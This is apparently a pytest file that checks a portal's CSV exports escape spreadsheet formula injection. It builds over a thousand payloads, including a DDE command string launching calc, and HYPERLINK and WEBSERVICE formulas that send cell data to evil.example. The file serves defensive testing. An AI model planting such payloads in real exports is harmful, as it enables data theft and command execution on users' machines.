"""No cell of any export is a formula, whatever was typed."""

import csv
import io
import unicodedata
from itertools import product

import pytest
from flask import Flask

from portal.database import Database
from portal.tables import csv_lines
from tests.fuzz.town import Case, World, list_addresses

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\u200b=", "\ufeff@", "﹦")
BEFORE = ("", " ", "  ", "\u00a0", "\u3000", "\u200b", "\u2060", "\t")
BODIES = (
    *("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "SUM(1;2)", "A1", "1"),
    *('WEBSERVICE("http://evil.example/"&A1)', "IMPORTXML(CONCAT(1),2)", '"', "DDE(1)"),
)
PAYLOADS = ["".join(parts) for parts in product(BEFORE, STARTS, BODIES)]


def _runs(cell: str) -> bool:
    """Whether a spreadsheet may take the cell for a formula, or for more than one cell."""
    seen = "".join(
        sign for sign in unicodedata.normalize("NFKC", cell) if unicodedata.category(sign) != "Cf"
    )
    return seen.lstrip().startswith(("=", "+", "-", "@")) or seen[:1] in {"\t", "\r", "\n"}


@pytest.mark.threat(42)
def test_a_thousand_payloads_are_text() -> None:
    assert len(PAYLOADS) >= 1000
    lines = "".join(csv_lines(["a", "b"], [[payload, 7] for payload in PAYLOADS]))
    rows = list(csv.reader(io.StringIO(lines, newline="")))[1:]
    assert len(rows) == len(PAYLOADS)
    assert [row[0] for row in rows if _runs(row[0])] == []
    assert all(row == [f"'{payload}", "7"] for row, payload in zip(rows, PAYLOADS, strict=True))


@pytest.mark.threat(42)
def test_every_file_handed_out_is_written_that_way(
    app: Flask, database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever the rows are: every cell of an export has gone through ``safe_cell``."""
    world = World(app, database)
    monkeypatch.setattr("portal.tables.safe_cell", lambda _cell: "checked")
    found = 0
    for url in list_addresses(world, "GET", lives={"measured"}):
        if ".csv" in url:
            answers = [world.send(Case(who, "GET", url, "")) for who in world.town.people]
            texts = [answer.text for answer in answers if answer.status_code == 200]
            cells = {
                cell for text in texts for row in csv.reader(text.splitlines()) for cell in row
            }
            assert cells <= {"checked"}, url
            found += bool(texts)
    assert found >= 3
